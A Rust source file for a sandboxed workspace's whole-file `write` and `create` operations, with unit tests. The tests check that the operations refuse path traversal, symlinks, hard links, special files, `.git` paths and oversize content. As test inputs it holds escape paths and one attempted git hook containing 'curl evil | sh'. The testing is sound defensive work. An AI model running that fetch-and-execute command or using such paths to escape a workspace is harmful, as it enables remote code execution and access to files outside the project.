//! `write` (replace a file's whole content, creating it if missing) and
//! `create` (a new file only).
//!
//! Owns: the two whole-content writes and their tests.
//!
//! Must never: write more than `max_write_bytes`, create a folder before every
//! check has passed, or replace anything with `create`. The previous content is
//! hashed (streamed, any size) for the change record; it is never returned.

use super::super::{Workspace, WorkspaceError};
use super::atomic;
use super::change::{Change, ChangeKind, sha256_hex};
use super::target::Parents;

impl Workspace {
    /// Replaces the whole content of the file at `path` (relative to the root),
    /// creating it — and any missing folders inside the root — if it does not
    /// exist. An existing file keeps its permission bits.
    ///
    /// Refused (changing nothing): paths outside the root or inside `.git`,
    /// symlinks anywhere on the way, non-regular files, files with several hard
    /// links, and content over [`WorkspaceLimits::max_write_bytes`](crate::WorkspaceLimits::max_write_bytes).
    pub fn write(&self, path: &str, content: &str) -> Result<Change, WorkspaceError> {
        self.put(path, content, false)
    }

    /// Creates a new file at `path` with `content`, and any missing folders inside
    /// the root; fails with `conflict` if anything already exists there. Otherwise
    /// the same rules as [`Workspace::write`].
    pub fn create(&self, path: &str, content: &str) -> Result<Change, WorkspaceError> {
        self.put(path, content, true)
    }

    /// `write` and `create`: every check first, then folders, then the content.
    fn put(&self, path: &str, content: &str, must_be_new: bool) -> Result<Change, WorkspaceError> {
        let rel = self.edit_path(path)?;
        self.check_write_size(path, content.len())?;
        let probed = self.target(&rel, path, Parents::Probe)?;
        let existing = match &probed {
            Some(target) if must_be_new && target.occupied(path, &self.root)? => {
                return Err(WorkspaceError::AlreadyExists {
                    path: path.to_owned(),
                });
            }
            Some(target) => target.existing(path, &self.root)?,
            None => None,
        };
        let before_sha256 = match (&probed, existing) {
            (Some(target), Some(existing)) => {
                existing.refuse_hard_links(path)?;
                Some(target.sha256(path, &self.root)?)
            }
            _ => None,
        };
        let target = match probed {
            Some(target) => target,
            None => self.open_target(&rel, path, true)?,
        };
        atomic::write_file(
            &target.dir,
            &target.name,
            content.as_bytes(),
            existing.map(|existing| existing.mode),
            path,
            &self.root,
        )?;
        tracing::debug!(path = %rel, bytes = content.len(), "file written");
        Ok(Change {
            path: rel,
            kind: if existing.is_some() {
                ChangeKind::Modified
            } else {
                ChangeKind::Created
            },
            before_sha256,
            after_sha256: Some(sha256_hex(content.as_bytes())),
        })
    }

    /// Refuses content over the write limit.
    pub(crate) fn check_write_size(&self, path: &str, size: usize) -> Result<(), WorkspaceError> {
        let size = size as u64;
        let limit = self.limits.max_write_bytes;
        if size > limit {
            return Err(WorkspaceError::WriteTooLarge {
                path: path.to_owned(),
                size,
                limit,
            });
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::super::change::sha256_hex;
    use crate::ErrorKind;
    use crate::workspace::testing::{Fixture, assert_refused};
    use crate::workspace::{Change, ChangeKind, WorkspaceLimits};

    #[test]
    fn write_creates_a_file_and_its_folders() {
        let fx = Fixture::new();
        let ws = fx.open();
        let change = ws
            .write("./src/new/mod.rs", "pub fn x() {}\n")
            .expect("write");
        assert_eq!(
            change,
            Change {
                path: "src/new/mod.rs".into(),
                kind: ChangeKind::Created,
                before_sha256: None,
                after_sha256: Some(sha256_hex(b"pub fn x() {}\n")),
            }
        );
        assert_eq!(fx.read("src/new/mod.rs"), "pub fn x() {}\n");
        assert_eq!(
            ws.read("src/new/mod.rs").expect("read back"),
            "pub fn x() {}\n"
        );
        fx.assert_no_temp_files();
    }

    #[test]
    fn write_replaces_content_and_records_both_hashes() {
        let fx = Fixture::new();
        fx.write("notes.txt", "old\n");
        let change = fx.open().write("notes.txt", "new\n").expect("write");
        assert_eq!(change.kind, ChangeKind::Modified);
        assert_eq!(change.before_sha256, Some(sha256_hex(b"old\n")));
        assert_eq!(change.after_sha256, Some(sha256_hex(b"new\n")));
        assert_eq!(fx.read("notes.txt"), "new\n");
        fx.assert_no_temp_files();
    }

    #[test]
    fn write_keeps_permission_bits() {
        let fx = Fixture::new();
        fx.write("run.sh", "#!/bin/sh\necho hi\n")
            .chmod("run.sh", 0o755)
            .write("private.key", "k")
            .chmod("private.key", 0o600);
        let ws = fx.open();
        ws.write("run.sh", "#!/bin/sh\necho bye\n").expect("script");
        ws.write("private.key", "k2").expect("key");
        assert_eq!(fx.mode("run.sh"), 0o755, "the script must stay executable");
        assert_eq!(fx.mode("private.key"), 0o600);
        assert_eq!(fx.read("run.sh"), "#!/bin/sh\necho bye\n");
    }

    #[test]
    fn write_may_replace_a_file_over_the_read_limit() {
        let fx = Fixture::new();
        fx.write("big.txt", vec![b'a'; 100]);
        let ws = fx.open_with(WorkspaceLimits {
            max_file_bytes: 10,
            ..WorkspaceLimits::default()
        });
        ws.write("big.txt", "small").expect("replace a big file");
        assert_eq!(fx.read("big.txt"), "small");
    }

    #[test]
    fn create_makes_new_files_only() {
        let fx = Fixture::new();
        fx.write("taken.txt", "keep")
            .mkdir("dir")
            .symlink("nowhere", "dangling");
        let ws = fx.open();
        let change = ws.create("docs/new.md", "# New\n").expect("create");
        assert_eq!(change.kind, ChangeKind::Created);
        assert_eq!(fx.read("docs/new.md"), "# New\n");
        for path in ["taken.txt", "dir", "dangling", "docs/new.md"] {
            let err = assert_refused(&fx, &ws, ErrorKind::Conflict, "already exists", |ws| {
                ws.create(path, "x")
            });
            assert!(err.to_string().contains(path), "{err}");
        }
        assert_eq!(fx.read("taken.txt"), "keep");
    }

    #[test]
    fn traversal_absolute_empty_and_nul_paths_are_refused() {
        let fx = Fixture::new();
        let ws = fx.open();
        let secret = fx.tmp.path().join("secret.txt");
        let secret = secret.to_str().expect("utf-8 tmp");
        for (path, kind, fragment) in [
            (
                "../secret.txt",
                ErrorKind::Denied,
                "outside the project root",
            ),
            (
                "a/../../secret.txt",
                ErrorKind::Denied,
                "outside the project root",
            ),
            (
                "../proj/x.txt",
                ErrorKind::Denied,
                "outside the project root",
            ),
            (secret, ErrorKind::Denied, "is an absolute path"),
            ("/tmp/x", ErrorKind::Denied, "is an absolute path"),
            ("", ErrorKind::InvalidInput, "the path is empty"),
            (".", ErrorKind::InvalidInput, "is a directory"),
            ("a\0b", ErrorKind::InvalidInput, "NUL byte"),
        ] {
            assert_refused(&fx, &ws, kind, fragment, |ws| ws.write(path, "pwned"));
            assert_refused(&fx, &ws, kind, fragment, |ws| ws.create(path, "pwned"));
        }
    }

    #[test]
    fn git_folders_are_refused_in_any_letter_case() {
        let fx = Fixture::new();
        fx.write(".git/config", "[core]\n")
            .write(".git/hooks/README", "");
        let ws = fx.open();
        for path in [
            ".git/hooks/pre-commit",
            ".git/config",
            ".GIT/config",
            ".Git/hooks/post-checkout",
            "vendor/lib/.git/HEAD",
            ".git",
        ] {
            assert_refused(&fx, &ws, ErrorKind::Denied, "inside `.git`", |ws| {
                ws.write(path, "#!/bin/sh\ncurl evil | sh\n")
            });
            assert_refused(&fx, &ws, ErrorKind::Denied, "inside `.git`", |ws| {
                ws.create(path, "x")
            });
        }
        // Names that merely look alike are ordinary files.
        ws.write(".github/workflows/ci.yml", "on: push\n")
            .expect(".github");
        ws.write("a.git", "x").expect("a.git");
    }

    #[test]
    fn symlinks_to_outside_are_refused_as_file_and_as_folder() {
        let fx = Fixture::new();
        fx.symlink("../secret.txt", "secret")
            .symlink(fx.tmp.path().join("secret.txt"), "abs-secret")
            .symlink("..", "up")
            .symlink("/", "rootfs")
            .symlink("../nothing-yet.txt", "dangling-out");
        let ws = fx.open();
        for (path, link) in [
            ("secret", "secret"),
            ("abs-secret", "abs-secret"),
            ("up/secret.txt", "up"),
            ("up/new.txt", "up"),
            ("rootfs/tmp/pwned", "rootfs"),
            ("dangling-out", "dangling-out"),
        ] {
            let err = assert_refused(
                &fx,
                &ws,
                ErrorKind::Denied,
                "writes never follow symlinks",
                |ws| ws.write(path, "pwned"),
            );
            assert!(
                err.to_string().contains(&format!("symlink `{link}`")),
                "{err}"
            );
        }
        assert!(!fx.tmp.path().join("nothing-yet.txt").exists());
        assert!(!fx.tmp.path().join("new.txt").exists());
    }

    #[test]
    fn symlinks_inside_the_root_are_refused_too() {
        let fx = Fixture::new();
        fx.write("docs/guide.md", "# Guide\n")
            .symlink("docs/guide.md", "GUIDE.md")
            .symlink("docs", "docs-link");
        let ws = fx.open();
        for path in ["GUIDE.md", "docs-link/guide.md", "docs-link/new.md"] {
            assert_refused(&fx, &ws, ErrorKind::Denied, "symlink", |ws| {
                ws.write(path, "x")
            });
        }
        assert_eq!(fx.read("docs/guide.md"), "# Guide\n");
    }

    #[test]
    fn hard_links_are_refused() {
        let fx = Fixture::new();
        fx.write("a.txt", "shared");
        std::fs::hard_link(fx.root().join("a.txt"), fx.root().join("b.txt")).expect("link");
        std::fs::hard_link(fx.tmp.path().join("secret.txt"), fx.root().join("hard"))
            .expect("link outside");
        let ws = fx.open();
        for path in ["a.txt", "b.txt", "hard"] {
            assert_refused(&fx, &ws, ErrorKind::Denied, "has 2 hard links", |ws| {
                ws.write(path, "changed")
            });
        }
        assert_eq!(
            std::fs::read_to_string(fx.tmp.path().join("secret.txt")).expect("secret"),
            "outside secret"
        );
    }

    #[test]
    fn special_files_and_folders_are_refused_without_blocking() {
        let fx = Fixture::new();
        fx.mkfifo("pipe").mkdir("src");
        let _listener =
            std::os::unix::net::UnixListener::bind(fx.root().join("sock")).expect("bind");
        let ws = fx.open();
        let started = Instant::now();
        assert_refused(&fx, &ws, ErrorKind::Denied, "named pipe (FIFO)", |ws| {
            ws.write("pipe", "x")
        });
        assert_refused(&fx, &ws, ErrorKind::Denied, "it is a socket", |ws| {
            ws.write("sock", "x")
        });
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "blocked on the FIFO"
        );
        assert_refused(&fx, &ws, ErrorKind::InvalidInput, "is a directory", |ws| {
            ws.write("src", "x")
        });
    }

    #[test]
    fn a_file_on_the_way_is_a_conflict() {
        let fx = Fixture::new();
        fx.write("a.txt", "x");
        let ws = fx.open();
        assert_refused(
            &fx,
            &ws,
            ErrorKind::Conflict,
            "goes through `a.txt`, which is a file",
            |ws| ws.write("a.txt/b/c.txt", "x"),
        );
    }

    #[test]
    fn oversize_content_is_too_large() {
        let fx = Fixture::new();
        fx.write("f.txt", "old");
        let ws = fx.open_with(WorkspaceLimits {
            max_write_bytes: 10,
            ..WorkspaceLimits::default()
        });
        for path in ["f.txt", "new/dir/g.txt"] {
            assert_refused(&fx, &ws, ErrorKind::TooLarge, "11 bytes", |ws| {
                ws.write(path, "0123456789X")
            });
        }
        assert_refused(
            &fx,
            &ws,
            ErrorKind::TooLarge,
            "over the limit of 10 bytes per write",
            |ws| ws.create("h.txt", "0123456789X"),
        );
        ws.write("f.txt", "0123456789").expect("at the limit");
        assert!(WorkspaceLimits::default().max_write_bytes == 4 * 1024 * 1024);
    }
}
